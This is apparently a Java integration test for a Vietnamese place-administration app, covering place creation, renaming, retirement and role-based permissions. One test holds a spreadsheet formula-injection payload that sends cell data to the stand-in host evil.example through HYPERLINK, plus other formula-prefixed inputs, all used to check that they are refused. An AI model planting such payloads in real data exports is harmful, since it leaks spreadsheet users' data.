package vn.tramso.place;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.security.access.AccessDeniedException;
import vn.tramso.IntegrationTest;
import vn.tramso.base.Messages;
import vn.tramso.TestStaff;
import vn.tramso.place.PlaceRefusedException.Reason;

/** The place tree is kept in the app, each level by whoever is responsible for it, and nothing is ever deleted. */
@IntegrationTest
class PlaceEditorTest {

    @Autowired
    PlaceEditor admin;
    @Autowired
    Places places;
    @Autowired
    TestStaff staff;
    @Autowired
    JdbcClient jdbc;

    @Test
    void an_admin_builds_a_province_commune_and_village_and_renames_them() {
        staff.run("admin", () -> {
            long province = admin.addProvince("TA", "Tỉnh Thử");
            long commune = admin.addCommune(province, "TA-XA", "Xã Thử", CommuneKind.PHUONG);
            long village = admin.addVillage(commune, "TA-XA-DONG", "Tổ Đông", VillageKind.TO_DAN_PHO, "", "Số 1 đường Làng");
            admin.rename(PlaceLevel.VILLAGE, village, "  Tổ   dân phố Đông ");

            Village v = places.village(village).orElseThrow();
            assertThat(v.name()).isEqualTo("Tổ dân phố Đông");
            assertThat(v.culturalHouse()).as("a default name for the cultural house").isEqualTo("Nhà văn hóa tổ Đông");
            assertThat(v.culturalHouseAddress()).isEqualTo("Số 1 đường Làng");
            assertThat(v.provinceId()).isEqualTo(province);
            assertThat(admin.communes(province)).extracting(Commune::kind).containsExactly(CommuneKind.PHUONG);
        });
    }

    @Test
    void bad_and_taken_codes_and_empty_names_are_refused_and_write_nothing() {
        staff.run("admin", () -> {
            long commune = places.commune(jdbc.sql("SELECT id FROM commune WHERE code = 'HY-HQ'").query(Long.class).single())
                    .orElseThrow().id();
            assertThat(refusal(() -> admin.addVillage(commune, "hy-hq-thuong", "Thôn Thượng", null, null, null))).isEqualTo(Reason.BAD_CODE);
            assertThat(refusal(() -> admin.addVillage(commune, "HY-HQ-TRA-PHUONG", "Thôn khác", null, null, null)))
                    .isEqualTo(Reason.CODE_TAKEN);
            assertThat(refusal(() -> admin.addVillage(commune, "HY-HQ-THUONG", "   ", null, null, null))).isEqualTo(Reason.BAD_NAME);
            assertThat(refusal(() -> admin.rename(PlaceLevel.VILLAGE, 999_999, "X"))).isEqualTo(Reason.UNKNOWN);
        });
        assertThat(jdbc.sql("SELECT COUNT(*) FROM village WHERE code = 'HY-HQ-THUONG'").query(Integer.class).single()).isZero();
    }

    @Test
    void a_place_is_retired_only_when_nothing_under_it_is_in_use_and_a_retired_village_is_offered_no_more() {
        staff.run("admin", () -> {
            long province = admin.addProvince("TB", "Tỉnh Nghỉ");
            long commune = admin.addCommune(province, "TB-XA", "Xã Nghỉ", CommuneKind.XA);
            long village = admin.addVillage(commune, "TB-XA-THON", "Thôn Nghỉ", VillageKind.THON, null, null);
            admin.addKiosk("tb-nghi", village);

            assertThat(refusal(() -> admin.retire(PlaceLevel.COMMUNE, commune))).isEqualTo(Reason.HAS_PLACES_IN_USE);
            assertThat(refusal(() -> admin.retire(PlaceLevel.VILLAGE, village))).isEqualTo(Reason.HAS_ACTIVE_KIOSK);
            admin.setKioskActive("tb-nghi", false);
            admin.retire(PlaceLevel.VILLAGE, village);
            admin.retire(PlaceLevel.COMMUNE, commune);
            assertThat(places.villages()).extracting(Village::id).doesNotContain(village);
            assertThat(places.village(village).orElseThrow().retired()).as("kept, with its history").isTrue();

            assertThat(refusal(() -> admin.restore(PlaceLevel.VILLAGE, village))).isEqualTo(Reason.PARENT_RETIRED);
            admin.restore(PlaceLevel.COMMUNE, commune);
            admin.restore(PlaceLevel.VILLAGE, village);
            assertThat(places.villages()).extracting(Village::id).contains(village);
        });
    }

    @Test
    void a_province_admin_keeps_their_province_and_a_leader_the_villages_of_their_commune() {
        long hongQuang = jdbc.sql("SELECT id FROM commune WHERE code = 'HY-HQ'").query(Long.class).single();
        long hongVan = jdbc.sql("SELECT id FROM commune WHERE code = 'HN-HV'").query(Long.class).single();
        long hungYen = jdbc.sql("SELECT id FROM province WHERE code = 'HY'").query(Long.class).single();
        long haNoi = jdbc.sql("SELECT id FROM province WHERE code = 'HN'").query(Long.class).single();

        staff.run("tinh.hungyen", () -> {
            assertThat(admin.provinces()).extracting(Province::code).containsExactly("HY");
            admin.addCommune(hungYen, "HY-MOI", "Xã Mới", CommuneKind.XA);
            assertThatThrownBy(() -> admin.addCommune(haNoi, "HN-MOI", "Xã Mới", CommuneKind.XA))
                    .isInstanceOf(AccessDeniedException.class);
            assertThatThrownBy(() -> admin.addProvince("XX", "Tỉnh X")).isInstanceOf(AccessDeniedException.class);
        });
        staff.run("lanhdao.hongquang", () -> {
            admin.addVillage(hongQuang, "HY-HQ-MOI", "Thôn Mới", VillageKind.THON, null, null);
            assertThatThrownBy(() -> admin.addVillage(hongVan, "HN-HV-MOI", "Thôn Mới", VillageKind.THON, null, null))
                    .isInstanceOf(AccessDeniedException.class);
            assertThatThrownBy(() -> admin.rename(PlaceLevel.COMMUNE, hongQuang, "Xã Đổi Tên"))
                    .isInstanceOf(AccessDeniedException.class);
            assertThat(admin.communes(haNoi)).as("another province's communes are not listed").isEmpty();
        });
        staff.run("tnv.traphuong", () -> assertThatThrownBy(() -> admin.addVillage(hongQuang, "HY-HQ-X", "Thôn X",
                VillageKind.THON, null, null)).isInstanceOf(AccessDeniedException.class));
        assertThat(jdbc.sql("SELECT COUNT(*) FROM commune WHERE code = 'HN-MOI'").query(Integer.class).single()).isZero();
    }

    @Test
    void a_name_or_address_that_a_spreadsheet_would_run_as_a_formula_is_refused_and_nothing_changes() {
        long village = jdbc.sql("SELECT id FROM village WHERE code = 'HY-HQ-TRA-PHUONG'").query(Long.class).single();
        staff.run("lanhdao.hongquang", () -> {
            assertThat(refusal(() -> admin.rename(PlaceLevel.VILLAGE, village, "=HYPERLINK(\"http://evil.example/?\"&A2,\"Thôn Trà Phương\")")))
                    .isEqualTo(Reason.FORMULA_NAME);
            assertThat(refusal(() -> admin.rename(PlaceLevel.VILLAGE, village, "  @SUM(1+1)"))).isEqualTo(Reason.FORMULA_NAME);
            assertThat(refusal(() -> admin.changeCulturalHouse(village, "+Nhà văn hóa", null))).isEqualTo(Reason.FORMULA_NAME);
            assertThat(refusal(() -> admin.changeCulturalHouse(village, "Nhà văn hóa thôn Trà Phương", "-1+2")))
                    .isEqualTo(Reason.FORMULA_ADDRESS);
        });
        assertThat(places.village(village).orElseThrow().name()).isEqualTo("Thôn Trà Phương");
        assertThat(Messages.vi(Reason.FORMULA_NAME.messageKey())).startsWith("Tên không được bắt đầu bằng =, +, -, @");
    }

    private static Reason refusal(Runnable action) {
        PlaceRefusedException refused = catchThrowableOfType(PlaceRefusedException.class, action::run);
        assertThat(refused).as("refused").isNotNull();
        return refused.reason();
    }
}
